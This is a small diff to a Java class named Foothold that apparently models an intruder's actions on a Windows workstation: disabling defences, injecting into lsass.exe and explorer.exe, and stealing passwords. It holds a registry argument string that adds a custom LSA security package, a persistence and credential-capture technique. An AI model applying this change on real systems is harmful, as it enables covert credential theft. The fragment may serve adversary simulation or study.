@@ -21,6 +21,7 @@ import java.time.Instant;
 import java.util.Base64;
 /// What the intruder does on the workstation to stay and to see: defences off, a library in lsass.exe, code in
 /// explorer.exe, passwords.
+
 final class Foothold {
     private static final String PACKAGES =
             "\"Security Packages\" /t REG_MULTI_SZ /d kerberos\\0msv1_0\\0schannel\\0wdigest\\0tspkg\\0pku2u\\0wdmsp /f";
